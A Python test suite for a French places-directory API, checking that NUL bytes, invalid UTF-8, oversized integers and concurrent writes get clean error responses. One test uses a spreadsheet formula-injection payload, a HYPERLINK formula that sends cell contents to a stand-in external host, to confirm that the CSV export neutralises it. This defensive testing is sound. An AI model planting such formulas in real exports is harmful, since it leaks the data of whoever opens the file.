"""No input gets a server error: the edge rule (kernel/fne_kernel/inputs.py) and the cases found by
fuzzing."""

import pytest
from httpx import AsyncClient
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from fne_directory.places.models import Place
from fne_kernel.identity import Role
from tests.directory.factories import place_payload
from tests.support import identity_header, user_principal

PROBLEM = "application/problem+json"
EXPORTS = [
    "/exports/lieux.csv",
    "/exports/lieux.json",
    "/exports/lieux.geojson",
    "/exports/data-inclusion/structures.json",
    "/exports/data-inclusion/services.json",
]


def refused(response) -> bool:
    return response.status_code == 422 and response.headers["content-type"] == PROBLEM


@pytest.mark.parametrize(
    "url",
    [
        "/lieux/%00",
        "/lieux?code_insee=%00",
        "/lieux?q=%00",
        "/lieux?q=%ff%fe",
        "/lieux/%ed%a0%80",
        "/lieux?services=a%00b",
        *[f"{export}?code_insee=%00" for export in EXPORTS],
    ],
)
async def test_nul_bytes_and_invalid_text_in_paths_and_queries_are_a_422_in_french(
    directory: AsyncClient, url: str
) -> None:
    response = await directory.get(url)
    assert refused(response), response.text
    assert response.json()["errors"][0]["reason"] in {
        "Le caractère nul (U+0000) n'est pas accepté",
        "Texte illisible : ce n'est pas de l'UTF-8 valide",
    }


@pytest.mark.parametrize("q", ["-", " ", "!", "€", "- !", "«»"])
async def test_a_search_of_no_word_answers_the_unfiltered_directory(directory: AsyncClient, q: str) -> None:
    response = await directory.get("/lieux", params={"q": q})
    assert response.status_code == 200, response.text
    assert (await directory.get("/exports/lieux.csv", params={"q": q})).status_code == 200


@pytest.mark.parametrize("escape", ["\\u0000", "\\ud800"])
async def test_a_json_body_with_a_nul_or_a_lone_surrogate_is_refused_and_nothing_is_stored(
    directory: AsyncClient, identity_keys, communes, db: AsyncSession, escape: str
) -> None:
    import orjson

    body = orjson.dumps(place_payload(nom="PLACEHOLDER")).replace(b"PLACEHOLDER", f"Lieu {escape} x".encode())
    headers = identity_header(identity_keys[0], user_principal(Role.COORDINATOR)) | {
        "content-type": "application/json"
    }
    before = await db.scalar(select(func.count()).select_from(Place))
    response = await directory.post("/lieux", content=body, headers=headers)
    assert refused(response), response.text
    assert await db.scalar(select(func.count()).select_from(Place)) == before


@pytest.mark.parametrize(
    "url",
    [
        "/sync/enregistrements/2147483648",
        "/sync/taches/99999999999999999999999",
        "/sync/revue?page=2147483648",
        "/sync/enregistrements/-2147483649",
    ],
)
async def test_integers_beyond_their_column_are_refused(
    directory: AsyncClient, identity_keys, url: str
) -> None:
    headers = identity_header(identity_keys[0], user_principal(Role.ADMIN))
    response = await directory.get(url, headers=headers)
    assert response.status_code in (404, 422) and response.headers["content-type"] == PROBLEM, response.text


async def test_the_largest_integer_is_still_a_plain_not_found(directory: AsyncClient, identity_keys) -> None:
    headers = identity_header(identity_keys[0], user_principal(Role.ADMIN))
    assert (await directory.get("/sync/enregistrements/2147483647", headers=headers)).status_code == 404


FORMULA = '=HYPERLINK("https://x.example/?"&A1;"Voir")'


async def test_the_csv_export_cannot_carry_a_formula_and_the_json_keeps_the_exact_name(
    directory: AsyncClient, identity_keys, communes
) -> None:
    import csv
    import io

    headers = identity_header(identity_keys[0], user_principal(Role.COORDINATOR))
    created = await directory.post(
        "/lieux",
        headers=headers,
        json=place_payload(nom=FORMULA, adresse="@SUM(1)", presentation_resume="-1+1 et le reste"),
    )
    assert created.status_code == 201, created.text
    rows = list(csv.DictReader(io.StringIO((await directory.get("/exports/lieux.csv")).text)))
    row = next(row for row in rows if row["id"] == created.json()["id"])
    assert (row["nom"], row["adresse"]) == ("'" + FORMULA, "'@SUM(1)")
    assert row["presentation_resume"] == "'-1+1 et le reste"
    assert row["telephone"] == "+33479600404"  # a plain number is no formula: kept as the standard writes it
    assert all(
        not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == row["telephone"]
        for value in row.values()
    )
    as_json = (await directory.get("/exports/lieux.json")).json()
    assert next(place for place in as_json if place["id"] == created.json()["id"])["nom"] == FORMULA


async def test_eight_concurrent_writers_queue_instead_of_failing(databases, identity_keys) -> None:
    from fne_directory.config import Settings
    from fne_directory.main import create_app
    from fne_directory.territories.loader import load_communes
    from fne_kernel.db import session_factory
    from tests.support import all_at_once, migrated_fresh

    url = await migrated_fresh(databases, "fne_directory", "directory_writers")
    app = create_app(Settings(database_url=url, identity_public_key=identity_keys[1], access_log=False))
    async with session_factory(app.state.engine)() as session, session.begin():
        await load_communes(session)
    headers = identity_header(identity_keys[0], user_principal(Role.COORDINATOR))
    requests = [
        ("POST", "/lieux", {"headers": headers, "json": place_payload(nom=f"Lieu {n}")}) for n in range(8)
    ]
    assert await all_at_once(app, "http://directory", requests) == [201] * 8
    async with session_factory(app.state.engine)() as session:
        assert await session.scalar(select(func.count()).select_from(Place)) == 8
    await app.state.engine.dispose()
